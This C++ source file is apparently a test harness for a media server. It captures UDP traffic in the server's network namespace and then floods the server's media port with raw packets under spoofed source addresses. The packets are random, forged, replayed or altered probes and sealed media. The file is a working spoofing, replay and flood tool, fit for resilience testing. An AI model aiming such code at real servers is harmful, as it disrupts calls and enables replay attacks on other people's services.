// Somebody who wishes the calls ill: sends to the server's media port what strangers can make,
// guess, or have overheard, at a rate, with the source addresses that suit it. Needs CAP_NET_RAW.
//
//   media_attack --victim IP:PORT --overheard-in NAMESPACE ...
//
// First it listens in the namespace where the agents' datagrams arrive, and learns. A line on its
// input begins the attack; in the end it tells, in a line of JSON, how many it sent of each kind.
#include <arpa/inet.h>
#include <fcntl.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <poll.h>
#include <sched.h>
#include <sys/socket.h>
#include <unistd.h>

#include <CLI/CLI.hpp>
#include <array>
#include <cerrno>
#include <chrono>
#include <cstdio>
#include <cstring>
#include <iostream>
#include <random>
#include <string>
#include <system_error>
#include <thread>
#include <vector>

#include "base/transport_address.h"
#include "media/datagram_type.h"
#include "media/probe.h"

using namespace sallyport;

namespace {

enum class Kind : std::uint8_t {
  Rubbish,         // random octets, from anywhere
  StrangersRtp,    // good RTP, from anywhere
  NeighboursRtp,   // good RTP, from an agent's address but not its port
  ForgedProbe,     // well made, for a flow that is not
  CopiedProbe,     // an agent's, from elsewhere
  ReplayedProbe,   // an agent's, once more, with its source
  AlteredProbe,    // an agent's with another counter, with its source
  CopiedMedia,     // an agent's, from elsewhere
  ReplayedSealed,  // an agent's, once more, with its source
  AlteredSealed,   // an agent's with other octets, with its source
  ForgedSealed,    // the same with a counter that was not used yet
};
constexpr std::array<const char*, 11> kNames{"rubbish",        "strangers_rtp", "neighbours_rtp",
                                             "forged_probe",   "copied_probe",  "replayed_probe",
                                             "altered_probe",  "copied_media",  "replayed_sealed",
                                             "altered_sealed", "forged_sealed"};

struct Overheard {
  sockaddr_in source{};
  std::vector<std::uint8_t> datagram;
};

// The latest, of each sort.
class Memory {
 public:
  void add(const sockaddr_in& source, Bytes datagram) {
    auto& line = datagram[0] == static_cast<std::uint8_t>(media::DatagramType::Probe) ? probes
                 : media::is_sealed(datagram[0])                                      ? sealed
                                                                                      : media;
    Overheard one{source, {datagram.begin(), datagram.end()}};
    if (line.size() < kMost)
      line.push_back(std::move(one));
    else
      line[next_++ % kMost] = std::move(one);
  }

  std::vector<Overheard> probes, sealed, media;

 private:
  static constexpr std::size_t kMost = 4096;
  std::size_t next_ = 0;
};

void require(bool done, const char* what) {
  if (!done) throw std::system_error(errno, std::generic_category(), what);
}

// Whatever IP arrives there.
int ear_in(const std::string& network_namespace) {
  const int there = ::open(network_namespace.c_str(), O_RDONLY | O_CLOEXEC);
  const int home = ::open("/proc/thread-self/ns/net", O_RDONLY | O_CLOEXEC);
  require(there >= 0 && home >= 0 && ::setns(there, CLONE_NEWNET) == 0, "namespace");
  const int ear = ::socket(AF_PACKET, SOCK_DGRAM | SOCK_CLOEXEC, htons(ETH_P_IP));
  require(ear >= 0, "packet socket");
  require(::setns(home, CLONE_NEWNET) == 0, "own namespace");
  ::close(there);
  ::close(home);
  return ear;
}

// Until there is a line on the input.
Memory overhear(const std::string& network_namespace, const sockaddr_in& victim) {
  Memory memory;
  const int ear = ear_in(network_namespace);
  std::array<pollfd, 2> ready{{{ear, POLLIN, 0}, {STDIN_FILENO, POLLIN, 0}}};
  std::array<std::uint8_t, 2048> packet;
  while (::poll(ready.data(), ready.size(), -1) >= 0 && ready[1].revents == 0) {
    const ssize_t n = ::recv(ear, packet.data(), packet.size(), MSG_DONTWAIT);
    if (n < 0) continue;
    ip header{};
    udphdr udp{};
    const auto size = std::min(static_cast<std::size_t>(n), packet.size());
    if (size <= sizeof header + sizeof udp) continue;
    std::memcpy(&header, packet.data(), sizeof header);
    std::memcpy(&udp, packet.data() + sizeof header, sizeof udp);
    if (header.ip_p != IPPROTO_UDP || udp.uh_dport != victim.sin_port ||
        header.ip_dst.s_addr != victim.sin_addr.s_addr)
      continue;
    sockaddr_in source{};
    source.sin_addr = header.ip_src;
    source.sin_port = udp.uh_sport;
    memory.add(source, Bytes{packet}.first(size).subspan(sizeof header + sizeof udp));
  }
  ::close(ear);
  return memory;
}

class Attack {
 public:
  Attack(const sockaddr_in& victim, in_addr strangers, Memory memory)
      : victim_(victim),
        strangers_(strangers),
        memory_(std::move(memory)),
        socket_(::socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW)) {
    require(socket_ >= 0, "raw socket");
    const int room = 4 * 1024 * 1024;
    ::setsockopt(socket_, SOL_SOCKET, SO_SNDBUFFORCE, &room, sizeof room);
    if (memory_.probes.empty() || (memory_.sealed.empty() && memory_.media.empty()))
      throw std::runtime_error("nothing was overheard");
    for (const Kind kind :
         {Kind::Rubbish, Kind::StrangersRtp, Kind::NeighboursRtp, Kind::ForgedProbe,
          Kind::CopiedProbe, Kind::ReplayedProbe, Kind::AlteredProbe, Kind::CopiedMedia})
      kinds_.push_back(kind);
    if (memory_.sealed.empty()) return;
    for (const Kind kind : {Kind::ReplayedSealed, Kind::AlteredSealed, Kind::ForgedSealed})
      kinds_.push_back(kind);
  }
  Attack(const Attack&) = delete;
  Attack& operator=(const Attack&) = delete;
  ~Attack() { ::close(socket_); }

  // So many a second; what cannot be kept up is not made up for.
  void run(double rate, std::chrono::milliseconds how_long) {
    using SteadyClock = std::chrono::steady_clock;
    const auto began = SteadyClock::now();
    for (auto now = began; now < began + how_long; now = SteadyClock::now()) {
      const double due = rate * std::chrono::duration<double>(now - began).count();
      while (static_cast<double>(sent_ + refused_) < due && SteadyClock::now() < began + how_long)
        send_batch();
      std::this_thread::sleep_for(std::chrono::microseconds{300});
    }
  }

  void print() const {
    std::printf("{\"sent\":%llu,\"refused\":%llu,\"probes\":%zu,\"kinds\":{",
                static_cast<unsigned long long>(sent_), static_cast<unsigned long long>(refused_),
                memory_.probes.size());
    for (std::size_t i = 0; i < kNames.size(); ++i)
      std::printf("%s\"%s\":%llu", i == 0 ? "" : ",", kNames.at(i),
                  static_cast<unsigned long long>(sent_of_.at(i)));
    std::puts("}}");
  }

 private:
  static constexpr std::size_t kBatch = 32;
  static constexpr std::size_t kHeaders = sizeof(ip) + sizeof(udphdr);
  static constexpr std::size_t kLongest = 1472;

  struct Packet {
    std::array<std::uint8_t, kHeaders + kLongest> octets{};
    sockaddr_in source{};
    std::size_t size = 0;  // of the datagram
    Kind kind = Kind::Rubbish;

    std::uint8_t* datagram() { return octets.data() + kHeaders; }
  };

  void send_batch() {
    std::array<mmsghdr, kBatch> messages{};
    std::array<iovec, kBatch> octets{};
    for (std::size_t i = 0; i < kBatch; ++i) {
      Packet& packet = packets_.at(i);
      make(packet);
      octets[i] = {packet.octets.data(), kHeaders + packet.size};
      messages[i].msg_hdr.msg_name = &victim_;
      messages[i].msg_hdr.msg_namelen = sizeof victim_;
      messages[i].msg_hdr.msg_iov = &octets[i];
      messages[i].msg_hdr.msg_iovlen = 1;
    }
    std::size_t done = 0;
    while (done < kBatch) {
      const int n = ::sendmmsg(socket_, &messages[done], static_cast<unsigned>(kBatch - done), 0);
      if (n <= 0) {
        ++refused_;
        ++done;
        continue;
      }
      for (int i = 0; i < n; ++i, ++done)
        ++sent_of_.at(static_cast<std::size_t>(packets_.at(done).kind));
      sent_ += static_cast<std::uint64_t>(n);
    }
  }

  void make(Packet& packet) {
    packet.kind = kinds_[next_++ % kinds_.size()];
    packet.source = stranger();
    switch (packet.kind) {
      case Kind::Rubbish:
        packet.size = 4 + random_() % 400;
        for (std::size_t i = 0; i < packet.size; ++i)
          packet.datagram()[i] = static_cast<std::uint8_t>(random_());
        packet.datagram()[1] = 0xff;  // no version of anything
        break;
      case Kind::StrangersRtp:
        make_rtp(packet);
        break;
      case Kind::NeighboursRtp:
        make_rtp(packet);
        packet.source = any(memory_.probes).source;
        packet.source.sin_port = static_cast<in_port_t>(packet.source.sin_port ^ 1U);
        break;
      case Kind::ForgedProbe:
        copy(packet, any(memory_.probes), false);
        for (std::size_t i = 4; i < packet.size; ++i)
          packet.datagram()[i] = static_cast<std::uint8_t>(random_());
        break;
      case Kind::CopiedProbe:
      case Kind::ReplayedProbe:
        copy(packet, any(memory_.probes), packet.kind == Kind::ReplayedProbe);
        break;
      case Kind::AlteredProbe:
        copy(packet, any(memory_.probes), true);
        packet.datagram()[kProbeCounter] |= 0x40U;  // above all that were used
        break;
      case Kind::CopiedMedia:
        copy(packet, any(memory_.sealed.empty() ? memory_.media : memory_.sealed), false);
        break;
      case Kind::ReplayedSealed:
        copy(packet, any(memory_.sealed), true);
        break;
      case Kind::AlteredSealed:
        copy(packet, any(memory_.sealed), true);
        packet.datagram()[packet.size / 2] ^= 0x10U;
        break;
      case Kind::ForgedSealed:
        copy(packet, any(memory_.sealed), true);
        packet.datagram()[kSealedCounter] ^= 0x10U;  // far above, or far below, the others
        break;
    }
    write_headers(packet);
  }

  static constexpr std::size_t kProbeCounter = 20;
  static constexpr std::size_t kSealedCounter = 4;

  const Overheard& any(const std::vector<Overheard>& of) { return of[random_() % of.size()]; }

  sockaddr_in stranger() {
    sockaddr_in out{};
    out.sin_addr.s_addr =
        htonl(ntohl(strangers_.s_addr) + static_cast<std::uint32_t>(random_() % 60000));
    out.sin_port = htons(static_cast<std::uint16_t>(1024 + random_() % 60000));
    return out;
  }

  static void copy(Packet& packet, const Overheard& from, bool source_too) {
    packet.size = std::min(from.datagram.size(), kLongest);
    std::memcpy(packet.datagram(), from.datagram.data(), packet.size);
    if (source_too) packet.source = from.source;
  }

  void make_rtp(Packet& packet) {
    packet.size = 172;
    for (std::size_t i = 0; i < packet.size; ++i)
      packet.datagram()[i] = static_cast<std::uint8_t>(random_());
    packet.datagram()[0] = 0x80;
    packet.datagram()[1] = 0;
  }

  void write_headers(Packet& packet) const {
    ip header{};
    header.ip_hl = sizeof header / 4;
    header.ip_v = 4;
    header.ip_len = htons(static_cast<std::uint16_t>(kHeaders + packet.size));
    header.ip_ttl = 64;
    header.ip_p = IPPROTO_UDP;
    header.ip_src = packet.source.sin_addr;
    header.ip_dst = victim_.sin_addr;
    udphdr udp{};
    udp.uh_sport = packet.source.sin_port;
    udp.uh_dport = victim_.sin_port;
    udp.uh_ulen = htons(static_cast<std::uint16_t>(sizeof udp + packet.size));
    std::memcpy(packet.octets.data(), &header, sizeof header);
    std::memcpy(packet.octets.data() + sizeof header, &udp, sizeof udp);
  }

  sockaddr_in victim_;
  in_addr strangers_;
  Memory memory_;
  int socket_;
  std::vector<Kind> kinds_;
  std::array<Packet, kBatch> packets_;
  std::minstd_rand random_{std::random_device{}()};
  std::size_t next_ = 0;
  std::uint64_t sent_ = 0;
  std::uint64_t refused_ = 0;
  std::array<std::uint64_t, kNames.size()> sent_of_{};
};

sockaddr_in address(const std::string& text) {
  const auto parsed = TransportAddress::parse(text);
  if (!parsed || !parsed->ip.is_v4()) throw std::runtime_error("not an IPv4 address: " + text);
  sockaddr_in out{};
  out.sin_family = AF_INET;
  out.sin_port = htons(parsed->port);
  std::memcpy(&out.sin_addr, parsed->ip.octets().data(), sizeof out.sin_addr);
  return out;
}

}  // namespace

// NOLINTNEXTLINE(bugprone-exception-escape): an exception may end a start-up.
int main(int argc, char** argv) {
  std::string victim;
  std::string overheard_in;
  std::string strangers = "10.66.0.1";
  double rate = 100'000;
  unsigned milliseconds = 10'000;
  CLI::App app{"An attack on a server's media port"};
  app.add_option("--victim", victim, "the server's X")->required();
  app.add_option("--overheard-in", overheard_in, "network namespace of the server")->required();
  app.add_option("--strangers", strangers, "the first of 60,000 addresses of nobody");
  app.add_option("--rate", rate, "packets a second");
  app.add_option("--time", milliseconds, "milliseconds");
  CLI11_PARSE(app, argc, argv);
  try {
    const sockaddr_in target = address(victim);
    Attack attack{target, address(strangers + ":0").sin_addr, overhear(overheard_in, target)};
    attack.run(rate, std::chrono::milliseconds{milliseconds});
    attack.print();
  } catch (const std::exception& failed) {
    std::cerr << "media_attack: " << failed.what() << '\n';
    return 1;
  }
  return 0;
}
